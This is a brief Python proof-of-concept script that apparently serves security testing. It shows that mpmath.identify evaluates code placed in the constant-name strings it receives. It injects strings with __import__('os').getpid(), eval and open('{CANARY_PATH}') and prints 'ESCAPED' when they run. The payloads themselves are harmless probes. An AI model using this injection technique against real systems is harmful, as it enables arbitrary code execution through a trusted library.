# proves: prints ESCAPED pid; mpmath.identify evaluates the names of constants
# needs: mpmath

import mpmath
class Number(float):
    pass
for text in ("__import__('os').getpid()", "print('ESCAPED', eval(\"__import__('os').getpid()\"))", "open('{CANARY_PATH}')"):
    try:
        found = mpmath.mp.identify(3.1, [text])
        print("ESCAPED" if "getpid" in str(found) else "", found)
    except Exception:
        pass
